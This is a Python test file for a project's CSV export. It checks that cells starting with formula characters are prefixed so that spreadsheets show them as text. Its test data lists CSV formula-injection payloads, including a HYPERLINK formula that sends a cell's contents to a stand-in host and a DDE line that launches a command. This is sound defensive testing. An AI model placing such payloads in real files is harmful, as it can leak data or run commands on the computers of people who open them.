"""Every CSV the project writes is safe to open in a spreadsheet (no formula runs)."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from bot.csvfile import neutralise, write_csv_file
from bot.export import Row, write_csv
from flows.model import ActivityKind, Presence

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_shown_as_text(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Åsa Öberg", "1,5", "2025-03-03", "", "a=b", "x-y"])
def test_ordinary_cells_are_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


def test_hostile_names_and_titles_never_reach_the_export_as_formulas(tmp_path: Path) -> None:
    rows = [
        Row(
            participant_id=i,
            participant=name,
            day=date(2026, 11, 2),
            starts_at=datetime(2026, 11, 2, 8, tzinfo=UTC),
            activity=title,
            kind=ActivityKind.WORKSHOP,
            minutes=60,
            presence=Presence.PRESENT,
            category=None,
            dispute=None,
        )
        for i, (name, title) in enumerate(zip(HOSTILE, reversed(HOSTILE), strict=True))
    ]
    path = write_csv(rows, tmp_path / "report.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle, delimiter=";"))
    cells = [cell for line in table for cell in line]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    names = {line[0] for line in table[1:]}
    assert names == {"'" + name for name in HOSTILE}


def test_the_header_goes_through_the_same_rule(tmp_path: Path) -> None:
    path = write_csv_file(tmp_path / "x.csv", ["=a", "b"], [["-1", "2"]])
    assert path.read_text(encoding="utf-8-sig").splitlines() == ["'=a;b", "'-1;2"]
